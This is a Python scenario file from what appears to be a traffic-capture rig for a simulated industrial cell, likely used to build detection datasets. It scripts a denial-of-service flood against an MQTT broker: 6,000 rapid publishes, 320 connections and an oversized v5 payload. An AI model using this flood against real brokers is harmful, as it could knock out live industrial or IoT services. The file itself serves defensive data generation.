"""A device in the cell overwhelms the broker: with messages, with connections, with one message far too long."""

from __future__ import annotations

import asyncio
import contextlib

from pcaps.scenarios.rig.broker import LARGEST
from pcaps.scenarios.rig.stage import Stage
from pcaps.scenarios.rig.telemetry import V5, make_client, make_scenario, run_client

_MESSAGES, _CONNECTIONS = 6000, 320


async def attack(stage: Stage) -> None:
    """Publish 6,000 messages within seconds, connect 320 times, then send a payload larger than the broker takes."""
    await stage.until(12)
    stage.mark()
    async with run_client(make_client("loadgen")) as client:
        for ordinal in range(_MESSAGES):
            client.publish("chem/load/test", b"%06d" % ordinal)
            if ordinal % 200 == 199:
                await asyncio.sleep(0.05)
        await stage.wait(4)
    await stage.until(32)
    stage.mark()
    for ordinal in range(_CONNECTIONS):
        with contextlib.suppress(OSError):
            async with run_client(make_client(f"loadgen{ordinal}")):
                pass
    stage.mark()
    async with run_client(make_client("loadgen-big", version=V5)) as client:
        client.publish("chem/load/blob", b"0123456789abcdef" * (LARGEST // 8), 1)
        await stage.wait(6)


SCENARIO = make_scenario("mqtt_flood.pcap.gz", 48, 70, {"implant": attack}, time_scale=2, strangers=("implant",))
